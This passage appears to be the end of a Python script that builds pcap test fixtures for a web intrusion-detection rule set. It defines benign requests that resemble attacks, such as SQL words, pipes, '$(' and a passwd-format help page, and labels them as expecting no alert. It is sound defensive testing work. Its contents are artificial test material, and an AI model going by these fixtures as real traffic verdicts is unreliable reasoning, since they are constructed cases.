    (b"GET", b"/shop;jsessionid=0A1B2C3D4E5F?id=5", None, None, 200, None),
    (b"GET", b"/travel/union-station/", None, None, 200, None),
    (b"GET", b"/blog/how-to-sleep-better", None, None, 200, None),
    (b"GET", b"/wiki/Select_(SQL)", None, None, 200, None),
    (b"GET", b"/news?id=5&order=desc&sort=date", None, None, 200, None),
    (b"GET", b"/img/logo.png?v=2", None, None, 200, None),
    (b"GET", b"/go?url=https%3A%2F%2Fwww.example.com%2Fpage%3Fa%3D1", None, None, 302, None),
    (b"GET", b"/calc?expr=3|4", None, None, 200, None),
    (b"GET", b"/js/app.js?init=$(document).ready", None, None, 200, None),
    (b"GET", b"/download?file=report.pdf", None, None, 200, None),
    (b"GET", b"/.well-known/acme-challenge/Xy1Zw2", None, None, 200, None),
    (b"GET", b"/environment/policy.html", None, None, 200, None),
    (b"GET", b"/cgi-bin/luci", None, None, 200, None),
    (b"GET", b"/static/js/../css/site.css", None, None, 200, None),
    (b"GET", b"/docs/curl-manual.html", None, None, 200, None),
    (b"GET", b"/products?category=tools&price%3E=10", None, None, 200, None),
    (b"GET", b"/forum/thread?id=42", None, None, 200,
     b"<p>Q: I get \"You have an error in your SQL syntax\" when I insert a row</p>\n"),
    (b"GET", b"/docs/linux/passwd-format.html", None, None, 200,
     b"<pre>root:x:0:0:root:/root:/bin/bash</pre>\n"),
    (b"POST", b"/contact", b"name=Tom+O%27Brien&msg=Hello%2C+I%27d+like+a+quote+for+10+units",
     b"application/x-www-form-urlencoded", 200, None),
    (b"POST", b"/api/greet", b"{\"template\":\"Hello ${user.name}\",\"q\":\"select * from menu\"}",
     b"application/json", 200, None),
    (b"GET", b"/wp-login.php", None, None, 200, None),  # with the cookie below
    (b"GET", b"/phpmyadmin/index.php", None, None, 200, None),  # with the cookie below
    (b"GET", b"/actuator/health", None, None, 200, None),
    (b"GET", b"/server-status?auto", None, None, 200, None),
]


def case_benign_urls(out):
    g = Gen("2024-05-07T04:00:00Z", 3104)
    ex = []
    for i, (m, uri, body, ctype, st, rbody) in enumerate(BENIGN):
        headers = [b"Accept-Language: ja,en;q=0.8"]
        if uri.startswith(b"/wp-login") or uri.startswith(b"/phpmyadmin"):
            headers.append(b"Cookie: wordpress_test_cookie=WP%20Cookie%20check; phpMyAdmin=8f2a")
        ex.append((request(m, uri, b"www.sakura-trading.example", headers=headers,
                           body=body or b"", ctype=ctype), response(st, body=rbody)))
        g.requests.append((i * 2.0, "192.168.10.23", WEB, m, uri, st, "none"))
    for c in range(0, len(ex), 8):
        g.conn(c * 2.0, "192.168.10.23", WEB, ex[c:c + 8], gap=2.0)
    g.facts.append("192.168.10.23 to %s:80: %d ordinary requests, 2 s apart, 8 per connection "
                   "(every answer 2xx/3xx)." % (WEB, len(BENIGN)))
    g.write(os.path.join(out, "dt_webrules_benign"),
            "Ordinary requests that resemble attacks: no T3 alert.",
            "Search words that are SQL keywords, apostrophes, a single `../` in a path, a Google "
            "Maps `onload=` callback, `;jsessionid`, pipes and `$(` in values, URLs in "
            "parameters, help pages quoting an SQL error or the passwd format, templates with "
            "`${`, returning administrators with their session cookie, monitoring URLs.")


CASES = {
    "dt_webscan_dirbrute": case_dirbrute,
    "dt_webscan_benign": case_benign_behaviour,
    "dt_webrules_payloads": case_payloads,
    "dt_webrules_benign": case_benign_urls,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                  "..", "tests", "pcap"))
    ap.add_argument("cases", nargs="*", metavar="CASE", help=", ".join(sorted(CASES)))
    a = ap.parse_args()
    unknown = [c for c in a.cases if c not in CASES]
    if unknown:
        ap.error("unknown case(s) %s" % ", ".join(unknown))
    for name in a.cases or sorted(CASES):
        CASES[name](a.out)
        print("wrote %s" % os.path.join(a.out, name))


if __name__ == "__main__":
    main()
